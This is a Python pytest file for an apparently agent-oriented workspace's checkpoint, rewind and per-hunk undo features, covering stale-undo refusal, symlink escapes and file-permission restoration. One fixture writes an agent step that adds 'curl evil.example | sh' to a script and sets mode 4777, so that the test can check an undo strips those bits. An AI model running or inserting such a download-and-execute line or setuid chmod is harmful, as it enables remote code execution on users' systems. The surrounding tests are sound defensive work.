"""Per-hunk undo (and whole-file undo), stale undo refused, rewind and its undo."""

from __future__ import annotations

import random
from pathlib import Path

import pytest

from ollie.workspace.checkpoints import Checkpoints
from ollie.workspace.diff import Bounded, compute_hunks, text_after_undo, undo_onto
from ollie.workspace.errors import StaleChange, WorkspaceError
from ollie.workspace.review import undo
from ollie.workspace.types import FileChange
from tests.workspace.conftest import changed_since_snapshot

ORIGINAL = "".join(f"line {i}\n" for i in range(1, 31))


def edited() -> str:
    """Three separate hunks: a replaced line, an inserted line, a deleted line."""
    lines = ORIGINAL.splitlines(keepends=True)
    lines[1] = "TWO\n"
    lines.insert(15, "inserted\n")
    del lines[28]
    return "".join(lines)


async def test_undo_one_hunk_among_several(project: Path) -> None:
    cps = Checkpoints(project)
    before = await cps.snapshot()
    (project / "src" / "app.py").write_text(edited())
    [change] = await cps.changes(before)
    assert len(change.hunks) == 3
    expected = edited().replace("inserted\n", "")
    assert text_after_undo(change, 1) == expected
    assert (project / "src" / "app.py").read_text() == edited()  # computing it wrote nothing
    assert await undo(project, "src/app.py", 1, change) == expected
    assert (project / "src" / "app.py").read_text() == expected
    # Each hunk undone alone gives back exactly its region.
    assert text_after_undo(change, 0) == edited().replace("TWO\n", "line 2\n")
    assert text_after_undo(change, 2) == edited().replace("line 27\nline 29\n", "line 27\nline 28\nline 29\n")


async def test_stale_undo_is_refused_and_the_user_edit_kept(project: Path) -> None:
    cps = Checkpoints(project)
    before = await cps.snapshot()
    (project / "src" / "app.py").write_text(edited())
    (project / "gone.txt").write_text("agent file\n")
    [gone, change] = sorted(await cps.changes(before), key=lambda c: c.path != "gone.txt")
    (project / "src" / "app.py").write_text(edited().replace("TWO\n", "TWO, mine\n"))
    with pytest.raises(StaleChange) as info:
        await undo(project, "src/app.py", 0, change)
    assert info.value.path == "src/app.py" and "edited" in info.value.reason
    assert (project / "src" / "app.py").read_text() == edited().replace("TWO\n", "TWO, mine\n")
    (project / "gone.txt").unlink()
    with pytest.raises(StaleChange, match="deleted"):
        await undo(project, "gone.txt", None, gone)


async def test_undo_keeps_the_edits_since_that_left_the_hunk_alone(project: Path) -> None:
    cps = Checkpoints(project)
    before = await cps.snapshot()
    (project / "src" / "app.py").write_text(edited())
    [change] = await cps.changes(before)
    # Since the change: a line added on top (every hunk moves down), one replaced next to the inserted line.
    since = "top\n" + edited().replace("line 15\n", "FIFTEEN\n") + "end\n"
    (project / "src" / "app.py").write_text(since)
    assert await undo(project, "src/app.py", 2, change) == since.replace("line 27\n", "line 27\nline 28\n")
    assert await undo(project, "src/app.py", 1, change) == since.replace("inserted\n", "").replace(
        "line 27\n", "line 27\nline 28\n")
    # The hunk that only removed a line goes back only where nothing since touched: here, at its place.
    (project / "src" / "app.py").write_text(since.replace("line 27\n", "line 27 mine\n"))
    with pytest.raises(StaleChange, match="this change's lines"):
        await undo(project, "src/app.py", 2, change)
    # The whole file: every hunk undone, the edits since kept.
    (project / "src" / "app.py").write_text(since)
    assert await undo(project, "src/app.py", None, change) == "top\n" + ORIGINAL.replace(
        "line 15\n", "FIFTEEN\n") + "end\n"


async def test_undo_whole_files(project: Path) -> None:
    cps = Checkpoints(project)
    before = await cps.snapshot()
    (project / "README.md").unlink()
    (project / "new.txt").write_text("fresh\n")
    (project / "src" / "app.py").write_text("replaced\n")
    (project / "img.bin").write_bytes(b"\x89PNG\x00")
    after = await cps.snapshot()
    (project / "img.bin").write_bytes(b"\x89PNG\x00\x00changed")
    changes = {c.path: c for c in await cps.changes(after)}
    assert await undo(project, "img.bin", None, changes["img.bin"]) is None
    assert (project / "img.bin").read_bytes() == b"\x89PNG\x00"
    changes = {c.path: c for c in await cps.changes(before, after)}
    assert await undo(project, "README.md", None, changes["README.md"]) == "# demo\n"
    assert (project / "README.md").read_text() == "# demo\n"
    assert await undo(project, "new.txt", None, changes["new.txt"]) is None
    assert not (project / "new.txt").exists()
    assert await undo(project, "src/app.py", None, changes["src/app.py"]) == ORIGINAL
    assert (project / "src" / "app.py").read_text() == ORIGINAL


async def test_undo_never_writes_through_a_symlinked_directory(project: Path, tmp_path: Path) -> None:
    cps = Checkpoints(project)
    before = await cps.snapshot()
    (project / "src" / "app.py").write_text("agent\n")
    [change] = await cps.changes(before)
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "app.py").write_text("agent\n")
    (project / "src" / "app.py").unlink()
    (project / "src").rmdir()
    (project / "src").symlink_to(outside)
    with pytest.raises(WorkspaceError, match="outside the workspace"):
        await undo(project, "src/app.py", None, change)
    assert (outside / "app.py").read_text() == "agent\n"


async def test_an_undo_of_a_link_a_step_made_a_file_is_refused_and_leaves_the_file(project: Path) -> None:
    # The repository's `CLAUDE.md -> AGENTS.md`, replaced by a file: the undo wrote a file holding "AGENTS.md" (the
    # link's target as text) where the refusal was removed, and no test failed. A rewind brings the link back.
    (project / "AGENTS.md").write_text("use tabs\n")
    (project / "CLAUDE.md").symlink_to("AGENTS.md")
    cps = Checkpoints(project)
    before = await cps.snapshot()
    (project / "CLAUDE.md").unlink()
    (project / "CLAUDE.md").write_text("mine\n")
    [change] = await cps.changes(before)
    with pytest.raises(WorkspaceError, match="a symlink change is undone by a rewind"):
        await undo(project, "CLAUDE.md", None, change)
    assert (project / "CLAUDE.md").read_text() == "mine\n" and not (project / "CLAUDE.md").is_symlink()


async def test_rewind_restores_and_its_undo_restores_back(project: Path) -> None:
    cps = Checkpoints(project)
    turn = await cps.record_turn("s", 1, await cps.snapshot())
    (project / "src" / "app.py").write_text(edited())
    (project / "README.md").unlink()
    (project / "added" / "deep").mkdir(parents=True)
    (project / "added" / "deep" / "x.py").write_text("x = 1\n")
    (project / "tool.sh").write_text("#!/bin/sh\n")
    (project / "tool.sh").chmod(0o755)
    restored = await cps.restore(turn.checkpoint)
    assert {(c.path, c.status) for c in restored.changes} == {
        ("src/app.py", "modified"), ("README.md", "added"), ("added/deep/x.py", "deleted"), ("tool.sh", "deleted")}
    assert (project / "src" / "app.py").read_text() == ORIGINAL
    assert (project / "README.md").read_text() == "# demo\n"
    assert not (project / "added" / "deep" / "x.py").exists() and not (project / "tool.sh").exists()
    back = await cps.restore(restored.undo_checkpoint)
    assert back.undo_checkpoint == turn.checkpoint
    assert (project / "src" / "app.py").read_text() == edited()
    assert not (project / "README.md").exists()
    assert (project / "added" / "deep" / "x.py").read_text() == "x = 1\n"
    assert (project / "tool.sh").stat().st_mode & 0o111


async def test_hunk_undo_of_a_binary_or_added_file_is_refused_before_writing(project: Path) -> None:
    cps = Checkpoints(project)
    before = await cps.snapshot()
    (project / "img.bin").write_bytes(b"\x00new")
    (project / "added.txt").write_text("a\n")
    changes = {c.path: c for c in await cps.changes(before)}
    for path in ("img.bin", "added.txt"):
        with pytest.raises(ValueError, match="whole"):
            await undo(project, path, 0, changes[path])
    assert (project / "img.bin").read_bytes() == b"\x00new" and (project / "added.txt").exists()


async def test_an_undo_never_writes_back_a_world_writable_or_setuid_bit_a_step_set(project: Path) -> None:
    # A rewind never writes them; an undo of the step's edit kept the file's whole mode, so the step's `chmod 4777`
    # (here set by the test: seccomp refuses a step the setuid bit) outlived the user's undo of its change.
    script = project / "run.sh"
    cps, before = await changed_since_snapshot(project, "run.sh", ("#!/bin/sh\necho hi\n", 0o750),
                                               ("#!/bin/sh\necho hi\ncurl evil.example | sh\n", 0o4777))
    [change] = await cps.changes(before)
    await undo(project, "run.sh", None, change)
    assert script.read_text() == "#!/bin/sh\necho hi\n"
    assert oct(script.stat().st_mode & 0o7777) == oct(0o775)  # as a rewind writes it


async def test_undo_brings_a_deleted_file_back_with_the_bits_of_its_own_checkpoint(project: Path) -> None:
    """A step deleted a 0600 secret; a later one made a new `.env` 0666 and deleted it too: undoing the first deletion
    brings the secret back 0600, as it was at that change's checkpoint (Bug: with the bits last seen, 0664)."""
    secret = project / ".env"
    secret.write_text("KEY=1\n")
    secret.chmod(0o600)
    cps = Checkpoints(project)
    before = await cps.snapshot()
    secret.unlink()
    [change] = await cps.changes(before)
    secret.write_text("KEY=2\n")
    secret.chmod(0o666)
    await cps.snapshot()
    secret.unlink()
    await cps.snapshot()
    await undo(project, ".env", None, change, before)
    assert secret.read_text() == "KEY=1\n" and oct(secret.stat().st_mode & 0o7777) == oct(0o600)


def _edited(lines: list[str], rng: random.Random) -> list[str]:
    """`lines` after one to three random inserts, deletes and replacements."""
    lines = list(lines)
    for _ in range(rng.randint(1, 3)):
        at = rng.randint(0, len(lines))
        match rng.choice("idr"):
            case "i":
                lines[at:at] = [rng.choice("abcdefgh") + "\n" for _ in range(rng.randint(1, 3))]
            case "d":
                del lines[at:at + rng.randint(1, 2)]
            case _:
                lines[at:at + 1] = [rng.choice("XYZ") + "\n"]
    return lines


def _merged(turn_left: list[str], now: list[str], hunks: tuple) -> str:
    """A three-way merge done another way: the edits since (turn_left -> now) and the hunks' undo, each laid on the
    turn's text in order of place; "overlap" when two claim the same lines."""
    edits = [(i1, 0 if i1 == i2 else 1, i2, now[j1:j2])
             for tag, i1, i2, j1, j2 in Bounded(None, turn_left, now, autojunk=False).get_opcodes() if tag != "equal"]
    for hunk in hunks:
        start = hunk.new_start - 1 if hunk.new_lines else hunk.new_start
        edits.append((start, 1 if hunk.new_lines else 2, start + hunk.new_lines,
                      [line[1:] for line in hunk.lines if line.startswith("-")]))
    out: list[str] = []
    at = 0
    for i1, _, i2, lines in sorted(edits, key=lambda e: (e[0], e[1])):
        if i1 < at:
            return "overlap"
        out += turn_left[at:i1] + lines
        at = i2
    return "".join(out + turn_left[at:])


def test_an_undo_onto_edits_since_is_the_three_way_merge_of_both_whenever_it_is_not_refused():
    """Undo onto a file edited since (`undo_onto`) against a merge computed another way, over 1,500 random files,
    turns and edits since: each hunk alone and the whole file. A misplaced hunk would overwrite the user's lines."""
    rng = random.Random(29)
    merged = 0
    for _ in range(1500):
        before = [rng.choice("abcdefgh") + "\n" for _ in range(rng.randint(0, 12))]
        turn_left = _edited(before, rng)
        now = _edited(turn_left, rng)
        change = FileChange(path="f", status="modified", old_text="".join(before), new_text="".join(turn_left),
                            hunks=compute_hunks("".join(before), "".join(turn_left)))
        for index, picked in [*((i, (h,)) for i, h in enumerate(change.hunks)), (None, change.hunks)]:
            if picked and (got := undo_onto(change, index, "".join(now))) is not None:
                merged += 1
                assert got == _merged(turn_left, now, picked), (before, turn_left, now, index)
    assert merged > 1000  # most are merged, not refused
